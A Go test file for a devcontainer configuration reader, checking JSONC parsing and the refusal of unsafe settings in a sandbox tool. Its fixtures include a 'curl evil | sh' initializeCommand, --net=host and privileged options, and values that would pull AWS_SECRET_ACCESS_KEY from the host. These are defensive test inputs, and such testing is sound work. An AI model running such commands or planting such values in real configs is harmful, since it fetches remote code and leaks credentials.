package devcontainer

import (
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"deepswe/env"
	"deepswe/env/testkit"
)

func TestRead(t *testing.T) {
	for name, c := range map[string]struct {
		file, content string
		want          *Config
		refused       string // what the error names
	}{
		"none": {file: "x", content: ""},
		"an image, with comments": {
			file: ".devcontainer/devcontainer.json",
			content: `// For format details, see https://aka.ms/devcontainer.json
{
	"name": "a \"name\" // and no comment", /* a
	comment, */
	"image": "mcr.microsoft.com/devcontainers/go:1",
	"containerEnv": {"B": "2", "A": "x,}"},
	"remoteUser": "vscode",
	"onCreateCommand": ["echo", "it's"],
	"postCreateCommand": {"b": "npm ci", "a": ["go", "mod download"]},
	"forwardPorts": [3000,],
}`,
			want: &Config{
				File: ".devcontainer/devcontainer.json", Image: "mcr.microsoft.com/devcontainers/go:1",
				Env: []string{"A=x,}", "B=2"}, User: "vscode",
				Setup: []string{`'echo' 'it'\''s'`, "'go' 'mod download'", "npm ci"},
			},
		},
		"a build": {
			file:    ".devcontainer/devcontainer.json",
			content: `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}, "target": "dev"}}`,
			want: &Config{
				File: ".devcontainer/devcontainer.json", Folder: ".",
				Recipe: env.Recipe{File: ".devcontainer/Dockerfile", Args: map[string]string{"V": "1"}, Target: "dev"},
			},
		},
		"an older build": {
			file: ".devcontainer.json", content: `{"dockerFile": "docker/Dockerfile"}`,
			want: &Config{File: ".devcontainer.json", Folder: ".", Recipe: env.Recipe{File: "docker/Dockerfile"}},
		},
		"one of a name": {
			file: ".devcontainer/py/devcontainer.json", content: `{"image": "python:3"}`,
			want: &Config{File: ".devcontainer/py/devcontainer.json", Image: "python:3"},
		},
		"everything that no sandbox gives": {
			file: ".devcontainer.json", content: `{"image": "i", "features": {"f": {}}, "mounts": ["m"], "runArgs": ["--net=host"],
				"privileged": true, "initializeCommand": "curl evil | sh", "dockerComposeFile": "c.yml"}`,
			refused: "features, mounts, runArgs, privileged, initializeCommand, dockerComposeFile",
		},
		"harmless values": {
			file: ".devcontainer.json", content: `{"image": "i", "features": {}, "privileged": false, "mounts": []}`,
			want: &Config{File: ".devcontainer.json", Image: "i"},
		},
		"the user's secrets": {
			file: ".devcontainer.json", content: `{"image": "i", "containerEnv": {"K": "${localEnv:AWS_SECRET_ACCESS_KEY}"}}`,
			refused: "localEnv",
		},
		"the user's secrets in an image": {
			file: ".devcontainer.json", content: `{"build": {"args": {"K": "${localEnv:AWS_SECRET_ACCESS_KEY}"}}}`,
			refused: "localEnv",
		},
		"a build from above": {
			file: ".devcontainer.json", content: `{"build": {"context": "../.."}}`, refused: "outside the repository",
		},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			testkit.WriteFile(t, filepath.Join(dir, c.file), c.content)
			got, err := Read(dir)
			if c.refused != "" {
				if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), c.refused) {
					t.Errorf("%v, want a refusal of %s", err, c.refused)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
	for _, broken := range []string{"", "{", `{"image": 7}`, `{}`, `{"image": "i", "postCreateCommand": 7}`, `{"image": "i" /*`} {
		dir := t.TempDir()
		testkit.WriteFile(t, filepath.Join(dir, ".devcontainer.json"), broken)
		if got, err := Read(dir); err == nil || !strings.Contains(err.Error(), ".devcontainer.json") {
			t.Errorf("%q: %+v, %v", broken, got, err)
		}
	}
}

// FuzzPlain checks that JSON stays as it is, that the length never changes, and that nothing panics.
func FuzzPlain(f *testing.F) {
	f.Add([]byte(`{"a": [1, 2,], "b": "//", /* x */ "c": {},}`))
	f.Add([]byte(`"\`))
	f.Add([]byte(`[1,/`))
	f.Fuzz(func(t *testing.T, data []byte) {
		got := plain(data)
		if len(got) != len(data) {
			t.Fatalf("%d bytes became %d", len(data), len(got))
		}
		if json.Valid(data) && string(got) != string(data) {
			t.Errorf("%q became %q", data, got)
		}
		_, _ = parse("f", data)
	})
}
